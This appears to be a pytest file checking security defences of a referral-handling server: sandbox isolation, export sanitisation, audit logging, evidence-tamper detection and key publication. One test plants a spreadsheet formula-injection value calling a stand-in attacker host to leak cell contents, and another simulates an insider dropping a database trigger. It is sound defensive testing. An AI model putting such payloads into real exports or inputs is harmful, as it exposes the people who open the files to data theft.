"""Defences found in review, tested from the attacker's side."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import sqlalchemy as sa

from strive_schema.keys import SigningKey
from strive_server.db import tables

from .conftest import Receiver, fresh_referral, lower_threshold

ASW = "example-adverts"


def submit(receiver: Receiver, document: dict[str, Any]) -> None:
    with receiver.client(document["reporter"]["organisation_id"]) as client:
        client.submit_referral(document)


def cluster_of(receiver: Receiver, referral_id: str) -> Any:
    with receiver.http("analyst") as http:
        return http.get(f"/v1/referrals/{referral_id}/links").json()["cluster_id"]


def test_sandbox_referrals_neither_link_nor_make_a_value_over_correlating(
    receiver: Receiver, receiver_settings: Any
) -> None:
    lower_threshold(receiver, receiver_settings, 2)
    receiver.register_asw(ASW)
    phone = [{"id": "ph", "raw": "07700 900777"}]
    flood = []
    for _ in range(3):  # enough to flag the value, if sandbox referrals counted
        document = fresh_referral(asw_id=ASW)
        document["phones"] = phone
        submit(receiver, document)
        flood.append(document["referral_id"])
    assert {cluster_of(receiver, rid) for rid in flood} == {None}
    live = []
    for _ in range(2):
        document = fresh_referral(asw_id=ASW)
        document.update(is_test=False, phones=phone)
        submit(receiver, document)
        live.append(document["referral_id"])
    first, second = (cluster_of(receiver, rid) for rid in live)
    assert first is not None and first == second  # the live pair still links


def test_exports_neutralise_formulas_and_control_characters(receiver: Receiver) -> None:
    receiver.register_asw(ASW)
    document = fresh_referral(asw_id=ASW)
    document["is_test"] = False
    document["accounts"] = [
        {"id": "acc", "platform_account_id": "acc-1", "display_names": ["Ann\u0001a"]}
    ]
    document["adverts"] = [
        {"id": "ad", "platform_advert_id": "ad-1", "account_ref": "acc",
         "title": '=HYPERLINK("https://evil.example/?"&C2,"open")'}
    ]  # fmt: skip
    document["phones"] = [{"id": "ph", "raw": "=1+2"}]
    document["indicators"][0]["evidence_refs"] = ["ad"]
    submit(receiver, document)
    cluster_id = cluster_of(receiver, document["referral_id"])
    with receiver.http("analyst") as http:
        zipped = http.get(f"/v1/clusters/{cluster_id}/export", params={"format": "csv"}).content
        graphml = http.get(
            f"/v1/clusters/{cluster_id}/export", params={"format": "graphml"}
        ).content
    entities = list(
        csv.DictReader(
            io.StringIO(zipfile.ZipFile(io.BytesIO(zipped)).read("entities.csv").decode())
        )
    )
    labels = {e["Label"] for e in entities}
    assert '\'=HYPERLINK("https://evil.example/?"&C2,"open")' in labels and "'=1+2" in labels
    assert not any(label.startswith(("=", "+", "-", "@")) for label in labels)
    root = ET.fromstring(graphml)  # parses: the control character was dropped
    assert "Anna" in {d.text for d in root.iter() if d.text}


def test_exports_and_searches_are_audited_per_referral(receiver: Receiver) -> None:
    receiver.register_asw(ASW)
    ids = []
    for _ in range(2):
        document = fresh_referral(asw_id=ASW)
        document.update(is_test=False, phones=[{"id": "ph", "raw": "07700 900778"}])
        submit(receiver, document)
        ids.append(document["referral_id"])
    cluster_id = cluster_of(receiver, ids[0])
    with receiver.http("analyst") as http:
        assert http.get(f"/v1/clusters/{cluster_id}/export").status_code == 200
        assert (
            http.get("/v1/selectors", params={"kind": "phone", "value": "07700 900778"}).status_code
            == 200
        )
    with receiver.http("auditor") as http:
        for rid in ids:
            actions = {
                e["action"]
                for e in http.get("/v1/audit", params={"referral_id": rid}).json()["items"]
            }
            assert {"cluster.exported", "selector.search_result"} <= actions
        searched = [
            e
            for e in http.get("/v1/audit", params={"limit": 500}).json()["items"]
            if e["action"] == "selector.searched"
        ]
    assert (
        searched and "07700" not in str(searched) and len(searched[0]["detail"]["value_hmac"]) == 64
    )


def test_the_evidence_check_catches_a_stored_copy_changed_behind_the_triggers(
    receiver: Receiver,
) -> None:
    receiver.register_asw(ASW)
    document = fresh_referral(asw_id=ASW)
    submit(receiver, document)
    url = f"/v1/referrals/{document['referral_id']}/evidence"
    with receiver.http("analyst") as http:
        assert http.get(url).json()["verified"] is True
    # A database insider with enough rights removes the guard and edits the parsed copy.
    with receiver.session() as session, session.begin():
        dialect = session.get_bind().dialect.name
        if dialect == "sqlite":
            session.execute(sa.text("DROP TRIGGER referrals_evidence_immutable"))
        else:
            session.execute(sa.text("DROP TRIGGER referrals_evidence_immutable ON referrals"))
        session.execute(
            sa.update(tables.Referral).values(
                document={**document, "narrative": "Altered after receipt."}
            )
        )
    with receiver.http("analyst") as http:
        result = http.get(url).json()
    assert result["verified"] is False and result["mismatch"] == ["document"]


def test_retired_receipt_keys_stay_published(receiver: Receiver, tmp_path: Path) -> None:
    retired = SigningKey.generate().public_key
    path = tmp_path / "retired.jwk"
    path.write_bytes(retired.to_jwk_json())
    settings = receiver.settings.model_copy(update={"retired_receipt_keys": [path]})
    object.__setattr__(receiver.app.state, "settings", settings)
    with receiver.http() as http:
        kids = [
            k["kid"] for k in http.get("/.well-known/strive-configuration").json()["jwks"]["keys"]
        ]
    assert kids == [receiver.settings.signing_key.key_id, retired.key_id]


def test_the_evidence_check_works_from_the_envelope_for_numbers_beyond_2_53(
    receiver: Receiver,
) -> None:
    # PostgreSQL's JSONB gives 1e21 back as the integer 10**21, which has no canonical JSON
    # form: the check must not depend on the parsed copy's canonical form.
    receiver.register_asw(ASW)
    document = fresh_referral(asw_id=ASW)
    document["extensions"] = {"x-example-adverts-score": 1e21, "x-example-adverts-ratio": 0.1}
    submit(receiver, document)
    with receiver.http("analyst") as http:
        response = http.get(f"/v1/referrals/{document['referral_id']}/evidence")
    assert response.status_code == 200, response.text
    assert response.json()["verified"] is True
